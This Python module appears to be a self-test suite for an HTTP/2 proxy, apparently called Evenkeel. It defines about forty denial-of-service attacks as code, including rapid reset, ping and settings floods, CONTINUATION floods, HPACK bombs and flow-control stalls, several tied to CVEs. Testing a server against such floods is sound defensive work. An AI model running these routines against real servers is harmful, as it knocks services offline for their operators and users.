"""Attacks over HTTP/2: floods, what makes the other side work or remember, and what makes it wait.

Each is tried on the proxy's port, on the mesh port from a member's address and from a stranger's, and on the port for
leases. `place` says what a request to that port looks like: `place.small` and `place.large` are heads (HPACK blocks)
of requests with a short answer and a long one, `place.upload` one whose body is not read at once.
"""

import frames as h2

# Requests in one turn: a chunk of some KiB.
EACH = 50


def rapid_reset(storm, place):
    """Requests, each cancelled in the next frame (CVE-2023-44487)."""
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, place.small) + h2.reset(n) for n in h2.streams(turn, EACH)))


def late_reset(storm, place):
    """Requests, cancelled a turn later, when they were passed on."""
    def again(turn):
        before = h2.streams(turn - 1, EACH) if turn else ()
        return b"".join([*(h2.headers(n, place.hang) for n in h2.streams(turn, EACH)), *map(h2.reset, before)])
    storm.connections(4, h2.hello(), again, every_s=0.02)


def made_reset_by_overflow(storm, place):
    """The server is made to reset: a stream's window is raised past 2^31-1 (CVE-2025-8671)."""
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, place.small) + h2.window_update(n, h2.WINDOW_LIMIT) for n in h2.streams(turn, EACH)))


def made_reset_by_zero_increment(storm, place):
    """The server is made to reset: a stream's window is raised by 0."""
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, place.small) + h2.window_update(n, 0) for n in h2.streams(turn, EACH)))


def made_reset_by_half_closed(storm, place):
    """The server is made to reset: a body after the request's end."""
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, place.small) + h2.data(n, b"x") for n in h2.streams(turn, EACH)))


def made_reset_by_priority(storm, place):
    """The server is made to reset: PRIORITY frames of a wrong length."""
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, place.small) + h2.frame(h2.PRIORITY, 0, n, b"1234") for n in h2.streams(turn, EACH)))


def made_reset_by_malformed(storm, place):
    """The server is made to reset: a body shorter than its content-length."""
    head = place.small + h2.field(b"content-length", b"5")
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, head, end_stream=False) + h2.data(n, b"x", end_stream=True) for n in h2.streams(turn, EACH)))


def refused_streams(storm, place):
    """More requests at once than the server allows, all of which hang."""
    storm.connections(4, h2.hello(), lambda turn: b"".join(
        h2.headers(n, place.hang) for n in h2.streams(turn, EACH)))


def settings_flood(storm, place):
    """Empty SETTINGS, each of which is to be acknowledged (CVE-2019-9515)."""
    storm.connections(8, h2.hello(), h2.settings() * 1000)


def settings_ack_flood(storm, place):
    """Acknowledgements of SETTINGS that nobody sent."""
    storm.connections(8, h2.hello(), h2.frame(h2.SETTINGS, h2.ACK) * 1000)


def ping_flood(storm, place):
    """PINGs, each of which is to be answered (CVE-2019-9512)."""
    storm.connections(8, h2.hello(), h2.ping() * 1000)


def ping_flood_unread(storm, place):
    """PINGs whose answers are not read, so that they pile up."""
    storm.connections(32, h2.hello(), h2.ping() * 1000, reads=False)


def ping_ack_flood(storm, place):
    """Answers to PINGs that nobody sent."""
    storm.connections(8, h2.hello(), h2.ping(h2.ACK) * 1000)


def empty_data_flood(storm, place):
    """DATA frames without a byte and without an end (CVE-2019-9518)."""
    storm.connections(8, h2.hello() + h2.headers(1, place.upload, end_stream=False), h2.data(1) * 1000)


def padding_flood(storm, place):
    """DATA frames that are all padding."""
    padded = h2.frame(h2.DATA, h2.PADDED, 1, bytes([255]) + bytes(255))
    storm.connections(8, h2.hello() + h2.headers(1, place.upload, end_stream=False), padded * 100)


def empty_headers_flood(storm, place):
    """Heads of no bytes at all, each on a stream of its own."""
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, b"") for n in h2.streams(turn, 500)))


def empty_trailers_flood(storm, place):
    """Trailers of no bytes, over and over on one stream."""
    opening = h2.hello() + h2.headers(1, place.upload, end_stream=False)
    storm.connections(8, opening, h2.headers(1, b"", end_stream=False) * 1000)


def empty_names_flood(storm, place):
    """Heads of thousands of fields whose name and value are empty (CVE-2019-9516)."""
    block = place.small + h2.field(b"", b"") * 4000
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, block) for n in h2.streams(turn, 5)))


def empty_continuation_flood(storm, place):
    """A head that goes on in CONTINUATION frames of no bytes (CVE-2024-27316)."""
    storm.connections(8, h2.hello() + h2.headers(1, place.small, end_headers=False),
                      h2.frame(h2.CONTINUATION, 0, 1) * 1000)


def continuation_flood(storm, place):
    """A head that goes on in full CONTINUATION frames, and never ends."""
    more = h2.frame(h2.CONTINUATION, 0, 1, h2.field(b"x-a", b"v" * 1000) * 16)
    storm.connections(8, h2.hello() + h2.headers(1, place.small, end_headers=False), more * 4)


def hpack_bomb(storm, place):
    """A large entry of the dynamic table, referred to thousands of times in each head (CVE-2016-6581)."""
    def again(turn):
        first = h2.indexed_field(b"x-bomb", b"b" * 4000) if turn == 0 else b""
        return b"".join(h2.headers(n, place.small + (first if i == 0 else b"") + h2.reference(62) * 4000)
                        for i, n in enumerate(h2.streams(turn, 5)))
    storm.connections(16, h2.hello(), again)


def hpack_table_sizes(storm, place):
    """The table's size is changed to and fro in each head, and by SETTINGS to the most there is."""
    block = h2.table_size(0) + h2.table_size(4096) + place.small
    flood = b"".join([h2.settings({h2.HEADER_TABLE_SIZE: 0}), h2.settings({h2.HEADER_TABLE_SIZE: 0xFFFFFFFF})])
    storm.connections(8, h2.hello({h2.HEADER_TABLE_SIZE: 0xFFFFFFFF}), lambda turn: b"".join(
        h2.headers(n, block) + flood for n in h2.streams(turn, EACH)))


def hpack_table_churn(storm, place):
    """Heads whose every field is a new entry of the table and throws out the last."""
    churn = b"".join(h2.indexed_field(b"x-%d" % n, b"v") for n in range(60))
    storm.connections(8, h2.hello(), lambda turn: b"".join(
        h2.headers(n, place.small + churn) for n in h2.streams(turn, 10)))


def large_heads(storm, place):
    """Heads of 15 KiB in a single field."""
    block = place.small + h2.field(b"x-large", b"v" * 15_000)
    storm.connections(16, h2.hello(), lambda turn: b"".join(h2.headers(n, block) for n in h2.streams(turn, 4)))


def zero_window(storm, place):
    """A window of 0 for every stream, and long answers asked for on a hundred of them."""
    opening = h2.hello({h2.INITIAL_WINDOW_SIZE: 0}) + many(place.large)
    storm.connections(16, opening)


def window_shrinks(storm, place):
    """Long answers, while the window of all streams goes to 1 and back with every frame."""
    opening = h2.hello({h2.INITIAL_WINDOW_SIZE: 1}) + many(place.large)
    flood = h2.settings({h2.INITIAL_WINDOW_SIZE: 2}) + h2.settings({h2.INITIAL_WINDOW_SIZE: 1})
    storm.connections(4, opening, flood * 100)


def window_by_bytes(storm, place):
    """Long answers, taken a byte at a time (CVE-2019-9511)."""
    opening = h2.hello({h2.INITIAL_WINDOW_SIZE: 0}) + many(place.large)
    byte = b"".join(h2.window_update(n, 1) for n in range(1, 2 * STREAMS, 2))
    storm.connections(4, opening, byte)


def priority_flood(storm, place):
    """PRIORITY frames that turn the tree over (CVE-2019-9513)."""
    flood = b"".join(h2.priority(n, n + 2) + h2.priority(n + 2, 0) for n in range(1, 1001, 2))
    storm.connections(8, h2.hello(), flood)


def window_update_flood(storm, place):
    """The connection's window is raised by 1, over and over."""
    storm.connections(8, h2.hello(), h2.window_update(0, 1) * 1000)


def goaway_flood(storm, place):
    """GOAWAY again and again, with words."""
    storm.connections(8, h2.hello(), h2.goaway(0, 0, b"enough " * 100) * 50)


def reset_flood(storm, place):
    """RST_STREAM for streams that ended."""
    storm.connections(8, h2.hello() + h2.headers(1, place.small), h2.reset(1) * 1000)


def unknown_frames(storm, place):
    """Frames of a kind that does not exist; they are to be passed over."""
    storm.connections(8, h2.hello(), h2.frame(0xEE, 0xFF, 7, b"u" * 100) * 200)


def push_promises(storm, place):
    """Promises, which no client may make."""
    storm.connections(8, h2.hello(), h2.frame(h2.PUSH_PROMISE, h2.END_HEADERS, 1, b"\0\0\0\2" + place.small) * 50)


def large_frame_claims(storm, place):
    """Frames that claim 16 MiB."""
    storm.connections(64, h2.hello() + h2.frame(h2.DATA, 0, 1, b"", claimed=0xFFFFFF), bytes(16384))


def idle_connections(storm, place):
    """Connections that begin and then say nothing."""
    storm.connections(1000, h2.hello())


def idle_without_preface(storm, place):
    """Connections that say nothing at all."""
    storm.connections(1000)


def slow_preface(storm, place):
    """The first bytes, one at a time."""
    opening = h2.hello()
    storm.connections(500, b"", lambda turn: opening[turn:turn + 1] or None, every_s=0.2)


def connection_flood(storm, place):
    """Connections that are closed as soon as they are greeted."""
    storm.connections(64, h2.hello(), at_close=True)


def unread_answers(storm, place):
    """Wide windows, long answers on every stream, and nothing is read."""
    opening = (h2.hello({h2.INITIAL_WINDOW_SIZE: h2.WINDOW_LIMIT}) + h2.window_update(0, h2.WINDOW_LIMIT - 65535)
               + many(place.large))
    storm.connections(16, opening, reads=False)


def open_uploads(storm, place):
    """Bodies that begin on every stream, and go on by a byte at a time."""
    opening = h2.hello() + many(place.upload, end_stream=False)
    byte = b"".join(h2.data(n, b"x") for n in range(1, 2 * STREAMS, 2))
    storm.connections(16, opening, byte, every_s=0.1)


def unread_uploads(storm, place):
    """Bodies that nobody reads, on every stream, as much of each as the first window allows."""
    body = b"u" * 16_000
    opening = h2.hello() + many(place.hang_upload, end_stream=False)
    bodies = b"".join(h2.data(n, body) for n in range(1, 2 * STREAMS, 2))
    storm.connections(16, opening, lambda turn: bodies if turn < 4 else None)


def many(block, end_stream=True):
    """As many requests as most servers allow at a time; Evenkeel allows ten times as many."""
    return b"".join(h2.headers(n, block, end_stream) for n in range(1, 2 * STREAMS, 2))


STREAMS = 100

ATTACKS = (
    rapid_reset, late_reset, made_reset_by_overflow, made_reset_by_zero_increment, made_reset_by_half_closed,
    made_reset_by_priority, made_reset_by_malformed, refused_streams, reset_flood, settings_flood, settings_ack_flood,
    ping_flood, ping_flood_unread, ping_ack_flood, empty_data_flood, padding_flood, empty_headers_flood,
    empty_trailers_flood, empty_names_flood, empty_continuation_flood, continuation_flood, hpack_bomb,
    hpack_table_sizes, hpack_table_churn, large_heads, zero_window, window_shrinks, window_by_bytes,
    window_update_flood, priority_flood, goaway_flood, unknown_frames, push_promises, large_frame_claims,
    idle_connections, idle_without_preface, slow_preface, connection_flood, unread_answers, open_uploads,
    unread_uploads,
)
